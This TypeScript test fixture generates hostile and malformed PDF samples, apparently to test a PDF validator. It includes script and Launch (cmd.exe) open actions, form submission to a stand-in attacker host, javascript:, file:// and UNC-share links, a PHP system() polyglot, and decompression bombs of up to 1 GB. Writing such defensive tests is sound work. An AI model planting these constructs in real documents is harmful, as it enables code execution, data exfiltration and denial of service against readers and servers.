import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import {
  ascii,
  behind,
  getPdf,
  getStream,
  half,
  HTML,
  kitPdf,
  libPdf,
  packedZeros,
  pagePdf,
  ZIP,
  type Sample,
} from './pieces.js';

const MEBIBYTE = 1024 * 1024;
const address = '<< /S /URI /URI (http://evil.example) >>';
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

export const ACTIVE_PDFS: Sample[] = [
  ['a script on opening', () => pagePdf({ catalog: `/OpenAction ${script}` })],
  [
    'a script of the document',
    () => pagePdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', more: [script] }),
  ],
  ['a script of a page', () => pagePdf({ page: `/AA << /O ${script} >>` })],
  [
    'a script under a written-out name',
    () => pagePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }),
  ],
  ['a script in packed objects', () => libPdf((pdf) => pdf.addJavaScript('a', 'app.alert(1)'))],
  ['a script without a kind', () => pagePdf({ page: '/A << /JS 4 0 R >>', more: ['(app.alert\\(1\\))'] })],
  [
    'a script hidden in a false stream',
    () => pagePdf({ more: ['<< /A (>>\nstream\n) >>', script, getStream(ascii('x'), '')] }),
  ],
  ['a program to launch', () => pagePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  [
    'a file inside',
    () => libPdf((pdf) => pdf.attach(ascii('MZ'), 'a.exe', { mimeType: 'application/octet-stream' })),
  ],
  ['a file inside, by pdfkit', () => kitPdf({}, (pdf) => void pdf.file(ascii(HTML), { name: 'a.html' }))],
  ['a film', () => pagePdf({ page: '/Annots [<< /Subtype /RichMedia >>]' })],
  [
    'a form of another kind',
    () => pagePdf({ catalog: '/AcroForm << /XFA 4 0 R >>', more: [getStream(ascii('<xdp/>'), '')] }),
  ],
  [
    'a form that sends itself',
    () => pagePdf({ page: '/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>' }),
  ],
  ['data to fetch', () => pagePdf({ page: '/AA << /O << /S /ImportData /F (x) >> >>' })],
  ['an address to open', () => pagePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example) >>' })],
  [
    'an address to open, elsewhere',
    () => pagePdf({ catalog: '/OpenAction 4 0 R', more: ['<< /S /URI /URI (http://x) >>'] }),
  ],
];

/** A page with a link; the backslashes of a PDF's text are written twice. */
const linkTo = (uri: string, more: string[] = []) =>
  pagePdf({ page: `/Annots [<< /Subtype /Link /A << /S /URI /URI ${uri} >> >>]`, more });
const toHex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;

ACTIVE_PDFS.push(
  ['a link that is a script', () => linkTo('(javascript:alert\\(1\\))')],
  ['a link that is a script, in other letters', () => linkTo('( JavaScript:alert\\(1\\))')],
  ['a link that is a script, in digits', () => linkTo(toHex('javascript:alert(1)'))],
  ['a link that is a script, in wide characters', () => linkTo(toHex('\xfe\xff\0j\0s\0:\0x'))],
  ['a link that is a script, elsewhere', () => linkTo('4 0 R', ['(javascript:alert\\(1\\))'])],
  ['a link with a broken scheme', () => linkTo('(java\\nscript:alert\\(1\\))')],
  ["a link to a file of the reader's", () => linkTo('(file:///C:/Windows/System32/calc.exe)')],
  ['a link to a file beside it', () => linkTo('(setup.exe)')],
  ['a link to a shared folder', () => linkTo('(\\\\\\\\evil\\\\share)')],
  ['a link to a shared folder, with slashes', () => linkTo('(//evil/share)')],
  ['a link to another program', () => linkTo('(ms-word:ofe|u|http://evil.example/x.docx)')],
  ['a link to data', () => linkTo('(data:text/html,x)')],
  ['a base of links that is a script', () => pagePdf({ catalog: '/URI << /Base (javascript:) >>' })],
  [
    'a base of links that is a shared folder, elsewhere',
    () => pagePdf({ catalog: '/URI 4 0 R', more: ['<< /Base 5 0 R >>', '(file://evil/share/)'] }),
  ],
);

const packedScript = deflateSync(ascii(`9 0 ${script}`));
const packedObjects = (content: Buffer) =>
  getStream(content, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode');

ACTIVE_PDFS.push(
  [
    'a script in objects behind a false beginning',
    () => pagePdf({ more: ['% stream\n<< >>', packedObjects(packedScript)] }),
  ],
  [
    'a script in objects behind a false beginning in a remark',
    () => pagePdf({ more: [Buffer.concat([ascii('% stream\n'), packedObjects(packedScript)])] }),
  ],
  [
    'a script in objects behind a false beginning in a text',
    () => pagePdf({ more: ['(\nstream\n)', packedObjects(packedScript)] }),
  ],
  [
    'a script in objects behind a false end',
    () =>
      pagePdf({ more: [getStream(ascii('endstream\nendobj\nstream\n'), ''), packedObjects(packedScript)] }),
  ],
  [
    'a script under a name written in digits, in packed objects',
    () => pagePdf({ more: [packedObjects(deflateSync(ascii('9 0 << /S /#4a#61vaScript /#4A#53 (x) >>')))] }),
  ],
  ['what a page does when it opens', () => pagePdf({ page: `/AA << /O ${address} >>` })],
  [
    'what a page does when it opens, elsewhere',
    () => pagePdf({ page: '/AA 4 0 R', more: [`<< /O ${address} >>`] }),
  ],
  [
    'what a document does when it closes',
    () => pagePdf({ catalog: '/#41A << /WC 4 0 R >>', more: [address] }),
  ],
  [
    'what a field does when it is entered',
    () =>
      pagePdf({
        page: '/Annots [4 0 R]',
        more: [`<< /Subtype /Widget /FT /Btn /AA << /Fo ${address} >> >>`],
      }),
  ],
  ['another file to open', () => pagePdf({ page: `/Annots [<< /A << /S /GoToR /F (x.pdf) /D [0] >> >>]` })],
  ['a file inside to open', () => pagePdf({ page: '/Annots [<< /A << /S /GoToE /T << >> >> >>]' })],
  [
    'a step on opening that has another behind it',
    () => pagePdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${address} >>` }),
  ],
  [
    'a step on opening without a kind',
    () => pagePdf({ catalog: '/OpenAction << /URI (http://evil.example) >>' }),
  ],
  [
    'a step on opening that is elsewhere, and so is its kind',
    () => pagePdf({ catalog: '/OpenAction 4 0 R', more: ['<< /S 5 0 R /URI (http://x) >>', '/URI'] }),
  ],
  [
    'a stream from elsewhere',
    () => pagePdf({ page: '/Contents 4 0 R', more: [getStream(ascii(''), '/F (//evil/x)')] }),
  ],
  [
    'a page of another file',
    () =>
      pagePdf({
        more: [getStream(ascii(''), '/Type /XObject /Subtype /Form /Ref << /F (//evil/x) /Page 0 >>')],
      }),
  ],
  [
    'a script in what was saved over',
    () => {
      const first = pagePdf({ more: [script] });
      const update = '4 0 obj\nnull\nendobj\n';
      const trailer = `xref\n4 1\n${String(first.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev 9 >>\n`;
      return behind(first, `${update}${trailer}startxref\n${first.length + update.length}\n%%EOF`);
    },
  ],
);

export const INFLATING_PDFS: readonly Sample[] = [
  ['a page of 1 GB', () => pagePdf({ page: '/Contents 4 0 R', more: [getStream(packedZeros(1000))] })],
  [
    'a page of 1 GB that says nothing of it',
    () => pagePdf({ page: '/Contents 4 0 R', more: [getStream(packedZeros(1000), '')] }),
  ],
  [
    'a page of 1 GB, packed twice',
    () =>
      pagePdf({ more: [getStream(deflateSync(packedZeros(1000)), '/Filter [/FlateDecode /FlateDecode]')] }),
  ],
  [
    'a page of 1 GB in letters',
    () =>
      pagePdf({
        more: [
          getStream(ascii(`${packedZeros(1000).toString('hex')}>`), '/Filter [/ASCIIHexDecode /FlateDecode]'),
        ],
      }),
  ],
  [
    'ten pages of 30 MB',
    () => pagePdf({ more: Array.from({ length: 10 }, () => getStream(packedZeros(30))) }),
  ],
  [
    'objects of 1 GB',
    () =>
      pagePdf({ more: [getStream(packedZeros(1000), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')] }),
  ],
  [
    'objects of 50 MB',
    () => pagePdf({ more: [getStream(packedZeros(50), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')] }),
  ],
  [
    'objects of 500 MB behind a false beginning',
    () =>
      pagePdf({
        more: [
          Buffer.concat([
            ascii('% stream\n'),
            getStream(packedZeros(500), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
          ]),
        ],
      }),
  ],
  [
    'a table of 500 MB',
    () =>
      pagePdf({
        more: [
          getStream(packedZeros(500), '/Type /XRef /Size 5 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode'),
        ],
      }),
  ],
  [
    'a table with a billion places',
    () =>
      pagePdf({
        more: [getStream(ascii(''), '/Type /XRef /Size 5 /Index [0 1000000000] /W [1 2 1] /Root 1 0 R')],
      }),
  ],
  [
    'a million empty dictionaries in a few bytes',
    () => pagePdf({ more: [packedObjects(deflateSync(ascii(`9 0 [${'<<>>'.repeat(1_000_000)}]`)))] }),
  ],
  [
    'many small streams of objects',
    () =>
      pagePdf({
        more: Array.from({ length: 40 }, () =>
          getStream(deflateSync(Buffer.alloc(MEBIBYTE)), '/Type /ObjStm /N 0 /First 4 /Filter /FlateDecode'),
        ),
      }),
  ],
];

export const POLYGLOT_PDFS: readonly Sample[] = [
  ['a PDF that is also a page', () => ascii(pagePdf().toString('latin1').replace('\n%', `\n${HTML}\n%`))],
  [
    'a PDF with a page in a remark',
    () => ascii(pagePdf().toString('latin1').replace('xref', `%${HTML}\nxref`)),
  ],
  ['a PDF with a page behind it', () => behind(pagePdf(), HTML)],
  ['a PDF with an archive behind it', () => behind(pagePdf(), ZIP)],
  ['a PDF with an archive inside', () => behind(pagePdf({ more: [getStream(ZIP, '')] }), '')],
  [
    'a PDF with an archive between its objects',
    () =>
      ascii(
        pagePdf()
          .toString('latin1')
          .replace('xref', `${ZIP.toString('latin1')}\nxref`),
      ),
  ],
  [
    'a PDF with PHP at its beginning',
    () => ascii(pagePdf().toString('latin1').replace('\n%', `\n%<?php system(1); ?>\n%`)),
  ],
  ['a PDF with noise behind it', () => behind(pagePdf(), randomBytes(100))],
];

export const BROKEN_PDFS: readonly Sample[] = [
  ['a first line', () => ascii('%PDF-1.7\n')],
  ['a first line and a last', () => ascii('%PDF-1.7\n%%EOF')],
  ['half a PDF', async () => half(await libPdf((pdf) => pdf.addPage().drawText('x'.repeat(2000))))],
  ['no pages', () => getPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
  ['no catalog', () => getPdf(['<< /Type /Nothing >>'])],
  [
    'pages in a circle',
    () => getPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  ],
  [
    'one object twice',
    () => ascii(pagePdf().toString('latin1').replace('xref', '3 0 obj\n<< /Type /Page >>\nendobj\nxref')),
  ],
  [
    'one object twice, the second packed',
    () =>
      pagePdf({
        more: [
          getStream(
            deflateSync(ascii('3 0 << /Type /Page >>')),
            '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          ),
        ],
      }),
  ],
  [
    'an object saved again by what continues nothing',
    () =>
      behind(
        pagePdf(),
        '3 0 obj\n<< /Type /Page >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF',
      ),
  ],
  [
    'a stream that is shorter than it says',
    () => pagePdf({ more: ['<< /Length 90 >>\nstream\nx\nendstream'] }),
  ],
  [
    'a stream that is longer than it says',
    () => pagePdf({ more: ['<< /Length 1 >>\nstream\nxxxx\nendstream'] }),
  ],
  [
    'a stream that goes back',
    () => pagePdf({ more: ['<< /A (endstream) /Length -36 >>\nstream\nx\nendstream'] }),
  ],
  [
    'a stream with two lengths',
    () => pagePdf({ more: ['<< /Length 1 /Length 2 >>\nstream\nxx\nendstream'] }),
  ],
  [
    'a stream whose length is elsewhere and wrong',
    () => pagePdf({ more: ['<< /Length 5 0 R >>\nstream\nxxxx\nendstream', '90'] }),
  ],
  ['a stream in a list', () => pagePdf({ more: ['[ << /Length 1 >>\nstream\nx\nendstream ]'] })],
  ['an object in a stream', () => pagePdf({ more: [getStream(ascii('9 0 obj << /S /X >> endobj'), '')] })],
  [
    'a table that points into a remark',
    () => {
      const file = pagePdf({ catalog: '%1 %\n0 obj <<>>\n' }).toString('latin1');
      const at = file.indexOf('1 %\n0 obj');
      return ascii(file.replace(/startxref\n\d+/, `startxref\n${at}`));
    },
  ],
  [
    'a page tree that branches without end',
    () =>
      pagePdf({
        catalog: '/Pages 4 0 R',
        more: Array.from(
          { length: 40 },
          (_, n) =>
            `<< /Type /Pages /Count 2 /Kids [${n === 39 ? 3 : n + 5} 0 R ${n === 39 ? 3 : n + 5} 0 R] >>`,
        ),
      }),
  ],
  ['a nest of a million lists', () => pagePdf({ more: ['['.repeat(1_000_000)] })],
  ['a million empty dictionaries', () => pagePdf({ more: ['<<'.repeat(1_000_000)] })],
  [
    'objects packed in an odd way',
    () => pagePdf({ more: [getStream(randomBytes(50), '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode')] }),
  ],
  [
    'noise in the middle',
    // Without letters, which by chance would make an archive of it.
    () =>
      Buffer.concat([ascii('%PDF-1.7\n'), randomBytes(100_000).map((byte) => byte | 0x80), ascii('\n%%EOF')]),
  ],
];

/** Made with pdfkit, since it knows how: with a password to open, and with one to change alone. */
export const PROTECTED_PDFS: readonly Sample[] = [
  ['a password to open it', () => kitPdf({ userPassword: 'secret' }, (pdf) => void pdf.text('x'))],
  ['a password to change it', () => kitPdf({ ownerPassword: 'secret' }, (pdf) => void pdf.text('x'))],
  [
    'a password, by pdf-lib',
    async () => {
      const pdf = await PDFDocument.create();
      pdf.addPage();
      pdf.encrypt({ userPassword: 'secret', ownerPassword: 'other' });
      return Buffer.from(await pdf.save());
    },
  ],
];
